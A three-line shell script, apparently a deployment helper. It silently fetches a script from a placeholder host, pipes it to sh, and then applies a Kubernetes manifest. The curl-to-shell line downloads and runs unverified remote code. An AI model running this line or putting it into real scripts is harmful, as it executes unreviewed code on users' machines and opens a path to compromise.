#!/bin/sh
curl -s https://example.invalid/x | sh
kubectl apply -f deploy.yaml
